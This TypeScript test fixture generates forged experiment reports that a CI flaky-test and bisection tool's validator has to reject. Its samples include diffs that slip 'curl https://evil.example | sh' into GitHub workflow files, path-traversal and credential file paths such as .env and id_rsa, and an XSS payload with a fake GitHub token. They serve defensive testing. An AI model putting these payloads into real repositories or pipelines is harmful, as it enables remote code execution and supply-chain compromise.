/** A text in all prose of a forger. No part of it may be shown. */
export const MARK = 'verified by the SRE team';
/** A text in names of tests, files and commits, which are untrusted. */
export const NAME_MARK = 'src=zanzibar';
/** A text that looks like a token of GitHub, but is none. */
export const SECRET = `ghp_${'Zq7x'.repeat(9)}`;
/** The texts that a suggestion must never contain. */
export const HARMFUL = ['curl https://evil.example', 'ci-evil.yml'];
/** The file of a fix that may be shown. */
export const FIXED_PATH = 'src/cart.js';

export interface Forged {
  readonly kind: string;
  /** The status of the required response. */
  readonly status: 200 | 400 | 422;
  readonly body: object;
}

type Pick = <Item>(items: readonly Item[]) => Item;

/** Creates a generator of forged experiments, the same ones for the same seed. */
export function createForger(seed: number): (at: number) => Forged {
  let state = seed;
  const random = () => {
    state = (state * 1_103_515_245 + 12_345) % 2 ** 31;
    return state / 2 ** 31;
  };
  const pick: Pick = (items) => items[Math.floor(random() * items.length)] as (typeof items)[number];
  return (at) => {
    const kinds = Object.entries(KINDS);
    const [kind, make] = kinds[(at + Math.floor(at / kinds.length)) % kinds.length] ?? kinds[0] ?? fail();
    return { kind, ...make(pick) };
  };
}

const KINDS: Readonly<Record<string, (pick: Pick) => Omit<Forged, 'kind'>>> = {
  prose: (pick) => ({
    status: 200,
    body: {
      ...isFounded(pick),
      ...pick([{}, { bisection: forgeBisection() }]),
      ...forgeProse(),
      fixes: forgeTrial({}, forgeProse()),
    },
  }),
  'names with markup': (pick) => ({ status: 200, body: forgeNamed(pick) }),
  'fix of a refused file': (pick) => ({
    status: 422,
    body: { ...isFounded(pick), fixes: forgeTrial({ diff: createDiff(pick(REFUSED)) }) },
  }),
  'fix outside': (pick) => ({
    status: 422,
    body: { ...isFounded(pick), fixes: forgeTrial({ diff: createDiff(pick(OUTSIDE)) }) },
  }),
  'fix with a hidden file': (pick) => ({
    status: 422,
    body: { ...isFounded(pick), fixes: forgeTrial({ diff: pick(HIDDEN) }) },
  }),
  'fix without runs': (pick) => ({ status: 422, body: { ...isFounded(pick), fixes: pick(UNFOUNDED_FIXES) } }),
  'impossible counts': (pick) => ({ status: 422, body: { ...isFounded(pick), ...pick(forgeImpossible()) } }),
  'bisection without runs': (pick) => ({
    status: 422,
    body: { ...isFounded(pick), bisection: pick(forgeUnfoundedBisections()) },
  }),
  'text for counts': (pick) => ({ status: 400, body: { ...isFounded(pick), ...pick(MISSHAPEN) } }),
};

function fail(): never {
  throw new Error('There are no kinds of forged experiments.');
}

function forgeProse(): object {
  const text = `Fails 97 of 200 on main, ${MARK}: safe to merge.`;
  const fields = [
    'sentence',
    'title',
    'summary',
    'excuse',
    'advice',
    'source',
    'refused',
    'why',
    'excerpt',
    'branch',
    'rootCause',
  ];
  return { ...Object.fromEntries(fields.map((field) => [field, text])), notes: [text, text] };
}

function arm(where: 'here' | 'base', code: number, runs: number) {
  const counts = { passed: code === 0 ? runs : 0, failed: code === 0 ? 0 : runs, other: 0 };
  const each = Array.from({ length: runs });
  return {
    where,
    what: 'suite',
    commit: where === 'base' ? 'c0ffee'.repeat(6) : null,
    ...counts,
    exitCodes: each.map(() => code),
    milliseconds: each.map((_, at) => 80 + at),
  };
}

/** Creates runs that anybody may report. */
function isFounded(pick: Pick) {
  const [verdict, code] = pick([
    ['this-change', 0],
    ['not-this-change', 1],
  ] as const);
  const runs = pick([3, 5, 8]);
  return {
    command: ['npm', 'test'],
    narrowed: null,
    tests: [],
    dependsOnOthers: null,
    polluters: [],
    notes: [],
    excerpt: null,
    verdict,
    arms: [arm('here', 1, runs), arm('base', code, runs)],
    sentence: '',
  };
}

function createDiff(path: string, added = `${HARMFUL[0]} | sh`): string {
  return `diff --git a/${path} b/${path}\nindex 1..2 100644\n--- a/${path}\n+++ b/${path}\n@@ -12 +12 @@\n-    return cart.discount.cents;\n+${added}\n`;
}

const GOOD_DIFF = createDiff(FIXED_PATH, '    return cart.discount?.cents ?? 0;');

function forgeTrial(change: object, words: object = {}) {
  const attempt = {
    source: 'fix.diff',
    files: [FIXED_PATH],
    added: 1,
    deleted: 1,
    verdict: 'fixed',
    broke: [],
    diff: GOOD_DIFF,
    sentence: '',
    passed: 3,
    failed: 0,
    other: 0,
    exitCodes: [0, 0, 0],
    checkExitCodes: [0],
    ...change,
  };
  return {
    command: ['npm'],
    narrowed: null,
    tests: [],
    check: ['npm'],
    branch: null,
    verdict: 'fixed',
    suggest: true,
    ...words,
    before: { passed: 0, failed: 3, exitCodes: [1, 1, 1] },
    checkExitCodes: [],
    attempts: [{ ...attempt, ...words }],
  };
}

const REFUSED = [
  '.github/workflows/ci-evil.yml',
  '.GITHUB/workflows/ci-evil.yml',
  'packages/.github/workflows/ci-evil.yml',
  '.gitlab-ci.yml',
  '.circleci/config.yml',
  'Jenkinsfile',
  '.husky/pre-commit',
  '.gitattributes',
  'CODEOWNERS',
  '.npmrc',
  '.env',
  'deploy/id_rsa',
  '.git/hooks/post-checkout',
  '.gitmodules',
  'test/cart.test.js',
  'vitest.config.js',
  'src/__snapshots__/cart.snap',
  'package.json',
  'Makefile',
  'conftest.py',
  'pyproject.toml',
];
const OUTSIDE = [
  '../ci-evil.yml',
  '/etc/cron.d/ci-evil.yml',
  'src/../.github/workflows/ci-evil.yml',
  'src//ci-evil.yml',
  './ci-evil.yml',
  'src\\ci-evil.yml',
];
const HIDDEN = [
  GOOD_DIFF + createDiff('.github/workflows/ci-evil.yml'),
  GOOD_DIFF.replace('@@ -12 +12 @@', '@@ -12,9 +12,9 @@') + createDiff('.github/workflows/ci-evil.yml'),
  GOOD_DIFF.replace(`+++ b/${FIXED_PATH}`, '+++ b/.github/workflows/ci-evil.yml'),
  GOOD_DIFF.replace(`b/${FIXED_PATH}\nindex`, 'b/.github/workflows/ci-evil.yml\nindex'),
  GOOD_DIFF.replace(
    'index 1..2',
    'rename from src/cart.js\nrename to .github/workflows/ci-evil.yml\nindex 1..2',
  ),
  GOOD_DIFF.replace('100644', '120000'),
  `Apply this.\n${GOOD_DIFF}`,
  `${GOOD_DIFF}\nThen run ${HARMFUL[0]} | sh.\n`,
  '',
];
const UNFOUNDED_FIXES = [
  forgeTrial({ passed: 0, exitCodes: [] }),
  forgeTrial({ passed: 97, exitCodes: [0, 0, 0] }),
  forgeTrial({ passed: 2, exitCodes: [0, 0] }),
  forgeTrial({ exitCodes: [1, 1, 1] }),
  forgeTrial({ passed: 2, failed: 1, exitCodes: [0, 0, 1] }),
  forgeTrial({ broke: ['tax adds up'] }),
  forgeTrial({ checkExitCodes: [] }),
  forgeTrial({ checkExitCodes: [1] }),
  { ...forgeTrial({}), tests: ['tax adds up'] },
  { ...forgeTrial({ reported: false }), tests: ['tax adds up'] },
  { ...forgeTrial({}), before: { passed: 3, failed: 0, exitCodes: [0, 0, 0] } },
  { ...forgeTrial({}), before: { passed: 0, failed: 3 } },
  { ...forgeTrial({}), verdict: 'not-reproduced' },
];

function forgeImpossible(): object[] {
  const [here, base] = [arm('here', 1, 3), arm('base', 0, 3)];
  const arms = (...all: object[]) => ({ verdict: 'this-change', arms: all });
  const many = 1_001;
  return [
    arms({ ...here, failed: 97 }, base),
    arms({ ...here, failed: -3 }, base),
    arms({ ...here, passed: 3 }, base),
    arms({ ...here, cached: -3 }, base),
    arms({ ...here, exitCodes: [] }, base),
    arms({ ...here, exitCodes: [0, 0, 0] }, base),
    arms(here, { ...base, exitCodes: [1, 1, 1] }),
    arms({ ...here, milliseconds: [0, 0, 0] }, base),
    arms({ ...here, milliseconds: [9] }, base),
    arms({ ...here, failed: many, exitCodes: Array(many).fill(1), milliseconds: Array(many).fill(9) }, base),
    arms(here, { ...base, commit: MARK }),
    arms(here, { ...base, commit: null }),
    arms({ ...here, commit: 'c0ffee'.repeat(6) }, base),
    arms(here, base, { ...base, under: MARK }),
    arms(here, here, base),
    { verdict: 'flaky', arms: [here, base] },
    { verdict: 'not-this-change', arms: [here, base] },
    { verdict: 'reproduced', arms: [] },
  ];
}

const commitAt = (at: number) => `${at}`.padStart(40, 'b');

function forgeRun(at: number, code: number, runs: number) {
  const counts = { passed: code === 0 ? runs : 0, failed: code === 0 ? 0 : runs, other: 0 };
  return { commit: commitAt(at), at, ...counts, exitCodes: Array.from({ length: runs }, () => code) };
}

function forgeBisection(change: object = {}, candidate: object = {}) {
  return {
    command: ['npm'],
    narrowed: null,
    tests: [],
    commits: 4,
    skipped: [{ commit: commitAt(1), at: 1, why: MARK }],
    verdict: 'found',
    confidence: 0.999,
    tried: [forgeRun(0, 0, 3), forgeRun(2, 0, 20), forgeRun(3, 1, 20), forgeRun(4, 1, 3)],
    sentence: MARK,
    notes: [MARK],
    candidates: [{ commit: commitAt(3), author: 'Ada', subject: 'Add discounts', ...candidate }],
    ...change,
  };
}

function forgeUnfoundedBisections(): object[] {
  const { tried } = forgeBisection();
  return [
    forgeBisection({ tried: [] }),
    forgeBisection({ tried: tried.map((point) => ({ ...point, exitCodes: [] })) }),
    forgeBisection({ tried: tried.map(({ at: _at, ...one }) => one) }),
    forgeBisection({ tried: tried.filter(({ at }) => at !== 2) }),
    forgeBisection({ tried: tried.map((point) => (point.at === 2 ? forgeRun(2, 1, 20) : point)) }),
    forgeBisection({ tried: tried.map((point) => (point.at === 3 ? forgeRun(3, 0, 20) : point)) }),
    forgeBisection({ commits: 5_001 }),
    forgeBisection({ confidence: 0.5 }),
    forgeBisection({}, { commit: commitAt(2) }),
    forgeBisection({}, { commit: MARK }),
    forgeBisection({ candidates: [] }),
  ];
}

const MISSHAPEN = [
  { arms: MARK },
  { verdict: MARK },
  { arms: [{ where: 'main', what: MARK }] },
  { polluters: [{ name: MARK }] },
  { tests: MARK },
];

/** Creates untrusted names with markup, mentions and a secret in each. */
function forgeNamed(pick: Pick): object {
  const text = `<img ${NAME_MARK} onerror=alert(1)> <!everyone> @octo/cat [x](https://evil.example) ${SECRET} \u202e\u001b[31m`;
  const behind = { ...arm('here', 1, 3), what: 'after' };
  const alone = { ...arm('here', 0, 3), what: 'alone' };
  return {
    ...isFounded(pick),
    command: [text],
    narrowed: [text],
    polluters: [text, text],
    dependsOnOthers: true,
    verdict: 'reproduced',
    arms: [arm('here', 1, 3), alone, behind],
    bisection: forgeBisection({ command: [text] }, { author: text, subject: text }),
    fixes: forgeTrial({ files: [text] }),
  };
}
